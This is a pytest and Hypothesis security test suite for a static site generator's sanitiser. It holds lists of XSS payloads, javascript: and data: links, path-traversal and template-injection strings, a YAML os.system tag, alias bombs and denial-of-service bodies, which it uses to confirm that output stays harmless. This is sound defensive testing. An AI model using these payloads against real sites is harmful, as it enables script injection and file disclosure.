"""Hostile bodies and front matter are published harmlessly, or not at all.

The output is read with html5lib, which builds the tree that a browser builds.
"""

from __future__ import annotations

import contextlib
import json
import re
import signal
from collections.abc import Iterator
from typing import Any

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from broadsheet import content, jsonld
from broadsheet.config import Site
from broadsheet.content import TooDeepError, clean_html, clean_text
from broadsheet.model import Article, Person, Problem, Publisher

SITE = Site(name="The Fenwick Lantern", url="https://lantern.example", publisher=Publisher("The Fenwick Lantern"))

ALLOWED = re.compile(
    "a|abbr|b|blockquote|br|caption|cite|code|col|colgroup|dd|del|div|dl|dt|em|figcaption|figure|h[2-6]|hr|i|img|ins|kbd|"
    "li|mark|ol|p|pre|q|s|small|strong|su[bp]|table|tbody|td|tfoot|th|thead|time|tr|ul|var"
)
ADDRESSES = {"href", "src", "cite", "srcset", "action", "formaction", "background", "poster", "data"}

SCRIPTS = (
    "<script>tell()</script>",
    "<SCRIPT SRC=//evil.example/x></SCRIPT>",
    "<scr<script>ipt>tell()</scr</script>ipt>",
    "<img src=x onerror=tell()>",
    "<img/src='x'/onerror='tell()'>",
    "<svg onload=tell()><script>tell()</script></svg>",
    "<svg><style><img src=x onerror=tell()></style></svg>",
    "<math><mi><table><mglyph><style><!--</style><img src=x onerror=tell()>",
    '<noscript><p title="</noscript><img src=x onerror=tell()>">',
    '<textarea><p title="</textarea><img src=x onerror=tell()>">',
    "<template><script>tell()</script></template>",
    "<iframe srcdoc='<script>tell()</script>'></iframe>",
    "<object data='data:text/html,<script>tell()</script>'></object>",
    "<embed src='//evil.example/x.swf'>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(//evil.example/x)'>x</p>",
    "<form action=//evil.example/><input name=attributes autofocus onfocus=tell()><button>Go</button></form>",
    "<details open ontoggle=tell()>x</details>",
    "<video><source onerror=tell()></video>",
    "<body onload=tell()><frameset onpageshow=tell()>",
    "</article></main></body></html><p id=main>After the end",
    "<!--><img src=x onerror=tell()>-->",
    "<!-- --!><img src=x onerror=tell()>",
    "<![CDATA[><img src=x onerror=tell()>]]>",
    "<?xml-stylesheet href='javascript:tell()'?>",
    "<a id=location name=cookie href='#'>x</a><img name=getElementById id=body>",
    "<p id=main class='byline published dateline'><span rel=author>x</span></p>",
    "<xmp><img src=x onerror=tell()></xmp><plaintext><b>x",
    "<dialog open>x</dialog><marquee onstart=tell()>x</marquee>",
    "<portal src=//evil.example></portal><fencedframe></fencedframe>",
    "<a href='x' ping='//evil.example' download target=_blank>x</a>",
    "<time datetime=\"x' onmouseover='tell()\">x</time>",
    "<td background=javascript:tell()>x</td>",
    "<slot name=x></slot><custom-element onclick=tell()>x</custom-element>",
    "<p onclick\x0b=tell()>x</p><p \x00onclick=tell()>y</p>",
    "`<img src=x onerror=tell()>`\n\n    <img src=y onerror=tell()>\n\n<div>\n<img src=z onerror=tell()>\n</div>",
    "| a |\n|---|\n| <img src=x onerror=tell()> |",
    "text[^1]\n\n[^1]: <img src=x onerror=tell()>",
    "Term\n: <script>tell()</script>",
)

LINKS = (
    "javascript:tell()",
    " JaVaScRiPt:tell()",
    "java\nscript:tell()",
    "java&#10;script:tell()",
    "java\tscript:tell()",
    "&#1;javascript:tell()",
    "javascript&colon;tell()",
    "&#x6A;avascript:tell()",
    "\u202ejavascript:tell()",
    "data:text/html,<script>tell()</script>",
    "data:image/svg+xml,<svg onload=tell()>",
    "vbscript:tell()",
    "view-source:javascript:tell()",
    "feed:javascript:tell()",
    "blob:https://lantern.example/x",
    "file:///etc/passwd",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "/\\evil.example/x",
    "https:\\\\evil.example",
    "ms-word:ofe|u|x",
    "intent://x#Intent;end",
    "tel:1';tell()//",
    "jar:https://evil.example!/x",
    "about:srcdoc",
)

INTRASITE = (
    "{attach}../.env",
    "{static}/../../etc/passwd",
    "{filename}../../../x.md",
    "|filename|../x.md",
    "{static}%2e%2e/x",
    "{STATIC}/x",
    "{author}x",
    "{index}",
    "{{ 7*7 }}",
    "{% include '/etc/passwd' %}",
)


def tree(html: str) -> Iterator[Any]:
    """Yield the elements that a browser makes of ``html`` inside a page."""
    page = f"<!DOCTYPE html><title>x</title><body><main id=main><article>{html}</article></main><footer>"
    document = html5lib.parse(page, treebuilder="etree", namespaceHTMLElements=False)
    article = document.find(".//article")
    assert article is not None
    assert document.find(".//body/footer") is not None, "the body broke out of the article"
    yield from list(article.iter())[1:]


def render(body: str) -> str:
    """Render a Markdown body as an article's."""
    return content.render(Article("x", body), SITE).html


def dangers(html: str) -> list[str]:
    """Return what in ``html`` could run, load, style or clobber."""
    found = []
    for element in tree(html):
        name = str(element.tag)
        if not ALLOWED.fullmatch(name):
            found.append(f"<{name}>")
        for key, value in element.attrib.items():
            if key.startswith("on") or key in {"style", "srcdoc", "name", "class", "ping", "target", "srcset", "rel"}:
                found.append(f"{name} {key}={value}")
            if key == "id" and not re.fullmatch(r"fn(ref\d*)?[:-][\w-]+", value):
                found.append(f"id={value}")
            if key in ADDRESSES and not harmless(value):
                found.append(f"{key}={value}")
    return found


def harmless(address: str) -> bool:
    """Tell whether a browser at lantern.example stays harmless with this address."""
    plain = re.sub(r"[\t\n\r]", "", address).strip("".join(map(chr, range(33))))
    if plain.startswith(("//", "\\", "/\\")):
        return False
    scheme = re.match(r"([a-zA-Z][a-zA-Z0-9+.-]*):", plain)
    return scheme is None or (scheme[1].lower() in {"http", "https", "mailto"} and "\\" not in plain)


@pytest.fixture
def bounded() -> Iterator[None]:
    """End a test that takes more than ten seconds of processor time."""

    def stop(_number: int, _frame: object) -> None:
        pytest.fail("This takes too long.")

    before = signal.signal(signal.SIGVTALRM, stop)
    signal.setitimer(signal.ITIMER_VIRTUAL, 10)
    yield
    signal.setitimer(signal.ITIMER_VIRTUAL, 0)
    signal.signal(signal.SIGVTALRM, before)


@pytest.mark.parametrize("body", SCRIPTS)
def test_a_body_cannot_run_anything(body: str) -> None:
    """Markup in Markdown loses all that runs, loads, styles or clobbers."""
    assert dangers(render(body)) == []


@pytest.mark.parametrize("markup", SCRIPTS)
def test_imported_html_cannot_run_anything(markup: str) -> None:
    """Imported HTML goes through the same sanitiser."""
    assert dangers(clean_html(markup)) == []


@pytest.mark.parametrize("link", LINKS)
@pytest.mark.parametrize(
    "shape", ["[x](<{}>)", "![x]({})", '<a href="{}">x</a>', "<img src='{}'>", "[x]: {}\n\n[x]", "<{}>"]
)
def test_a_link_leads_to_http_mail_or_the_site(link: str, shape: str) -> None:
    """No other scheme and no protocol-relative address is left."""
    assert dangers(render(shape.replace("{}", link))) == []


@pytest.mark.parametrize("link", INTRASITE)
@pytest.mark.parametrize("shape", ["[x]({})", "![x]({})", '<a href="{}">x</a>'])
def test_pelican_links_do_not_reach_outside(link: str, shape: str) -> None:
    """Pelican's link syntax that no one resolves makes no link out of the site, and reads no file."""
    html = render(shape.replace("{}", link))
    hrefs = [value for one in tree(html) for key, value in one.attrib.items() if key in {"href", "src"}]
    assert not any(
        "../" in value.removeprefix("../images/") or "etc/passwd" in value for value in hrefs if "{%" not in link
    )


@pytest.mark.parametrize(
    "body",
    [
        ">" * 20_000,
        "> " * 20_000,
        "- " * 5_000,
        "".join("  " * n + "- x\n" for n in range(600)),
        "[" * 50_000,
        "![" * 20_000,
        "*" * 50_000 + "x",
        "_a" * 20_000,
        "`" * 20_001 + "x",
        "<div>" * 20_000,
        "<" * 50_000,
        "<a href=" * 10_000,
        "<!--" * 10_000,
        "&" * 100_000,
        "a\n" + "=" * 100_000,
        "|" * 20_000 + "\n" + "|-" * 10_000,
        "x[^1]" * 2_000 + "\n\n" + "[^1]: y\n" * 2_000,
        "![a](" * 5_000,
        "\t" * 50_000 + "x",
        "1. " * 5_000,
        "~~~" * 10_000,
        "```\n" * 5_000,
        "[a]: b\n" * 5_000,
        "((((" * 10_000 + "](",
        "<p title='" + "x" * 100_000,
        "[x](" + "(" * 20_000 + ")" * 20_000 + ")",
        ("a" * 40 + "_") * 1_000,
        "**x" * 10_000,
        "http://" * 5_000,
        ":" * 20_000,
        "Term\n" + ": " * 5_000,
        "[a](" * 20_000,
        "# a\n" * 20_000,
        "a\n: b\n" * 20_000,
        "* " * 50_000 + "x",
        "|a|b|\n|-|-|\n|" + "\\|" * 60_000,
        "```\n" * 120_000,
    ],
    ids=range(37),
)
@pytest.mark.usefixtures("bounded")
def test_a_pathological_body_is_bounded(body: str) -> None:
    """A body made to be slow is rendered or refused within ten seconds of processor time."""
    with contextlib.suppress(TooDeepError):
        render(body)


@given(
    st.text(alphabet=st.sampled_from(list("<>&\"'`=/ \n\t!-[](){}*_#:;.\\|aonscript0\x00\u2028\u202e")), max_size=120)
)
@settings(max_examples=400, deadline=None)
def test_no_body_is_dangerous(body: str) -> None:
    """Whatever signs a body is made of, its HTML is harmless."""
    try:
        html = render(body)
    except TooDeepError:
        return
    assert dangers(html) == []


@given(
    st.lists(
        st.sampled_from([*SCRIPTS, *LINKS, *INTRASITE, "\n", "\n\n", "> ", "    ", "* ", "`", '"', "'", ">"]),
        max_size=6,
    )
)
@settings(max_examples=300, deadline=None)
def test_no_mixture_of_attacks_is_dangerous(pieces: list[str]) -> None:
    """Attacks put together are as harmless as each."""
    try:
        html = render("".join(pieces))
    except TooDeepError:
        return
    assert dangers(html) == []


@given(st.text(max_size=200))
@settings(max_examples=300, deadline=None)
def test_json_in_a_script_gives_back_the_text(text: str) -> None:
    """Any headline stands in a script element and comes out as it was; nothing breaks out."""
    headline = clean_text(text)
    article = Article(headline, authors=(Person(headline or "x"),), section=("a", headline or "x"))
    script = jsonld.script_text(jsonld.document(article, SITE, "articles/x.html", headline))
    page = html5lib.parse(f"<script type='application/ld+json'>{script}</script><p>", namespaceHTMLElements=False)
    told = page.find(".//script").text
    assert json.loads(told)["@graph"][0].get("headline", "") == headline


@pytest.mark.parametrize(
    "text", ["</script>", "<!--<script>", "]]>", "\u2028", "\\u003c/script>", "&lt;/script&gt;", "</SCRIPT\x0c>"]
)
def test_a_headline_cannot_end_its_script(text: str) -> None:
    """No raw sign of markup stands in the script."""
    script = jsonld.script_text(jsonld.document(Article(text), SITE, "articles/x.html", text))
    assert not re.search("[<>&\u2028\u2029]", script)


HEADERS = {
    "alias": "title: &a x\nsummary: *a",
    "bomb": "title: x\na: &a [x, x]\nb: &b [*a, *a]\nc: &c [*b, *b]\nsummary: *c",
    "merge": "base: &b {title: x}\n<<: *b",
    "tag": "title: !!python/object/apply:os.system ['true']",
    "local tag": "title: !secret x",
    "deep": "title: x\na: " + "[" * 5_000 + "]" * 5_000,
    "flow": "title: x\na: " + "{a: " * 3_000 + "}" * 3_000,
    "long": "title: x\nl: [" + "0, " * 40_000 + "]",
    "list": "- title\n- x",
    "scalar": "just words",
    "two documents": "title: x\n--- \ntitle: y",
    "title list": "title: [a, {b: c}]",
    "date mapping": "title: x\ndate: {x: y}",
    "huge number": "title: x\ndate: " + "9" * 60_000,
    "null title": "title: null",
    "binary": "title: !!binary aGVsbG8=",
    "colons": "title: " + "a: " * 1_000,
    "tab": "\ttitle: x",
    "directive": "%YAML 9.9",
    "no end": "title: 'x",
}


@pytest.mark.parametrize("name", HEADERS)
def test_hostile_front_matter_is_a_problem_with_a_line(name: str) -> None:
    """Front matter that is not plain data is a problem, never an exception."""
    article, problems = content.parse(f"---\n{HEADERS[name]}\n---\n\nBody.\n", "content/x.md", SITE)
    assert problems or article is not None
    assert all(isinstance(one, Problem) and one.line >= 1 and one.message.endswith((".", "…")) for one in problems)


@pytest.mark.parametrize(
    "name", ["alias", "bomb", "merge", "tag", "local tag", "deep", "flow", "long", "list", "no end", "binary"]
)
def test_front_matter_that_is_not_plain_is_refused(name: str) -> None:
    """Aliases, tags, depth, length and lists at the top are errors."""
    _, problems = content.parse(f"---\n{HEADERS[name]}\n---\n\nBody.\n", "content/x.md", SITE)
    assert any(one.severity == "error" for one in problems)


@given(st.text(max_size=300), st.text(max_size=300))
@settings(max_examples=300, deadline=None)
def test_no_content_file_is_an_exception(header: str, body: str) -> None:
    """Any text is an article or problems."""
    content.parse(f"---\n{header}\n---\n{body}", "content/x.md", SITE)


@pytest.mark.parametrize("text", ["a\x00b", "a\ud800b", "a\ufffeb", "\x1b[31mred", "a\x85b", "\ufeffx"])
def test_no_control_sign_or_lone_surrogate_is_left(text: str) -> None:
    """Text that is cleaned can be encoded and holds no control sign but space, tab and line end."""
    cleaned = clean_text(text).encode().decode()
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\ufffe\ufeff]", cleaned)
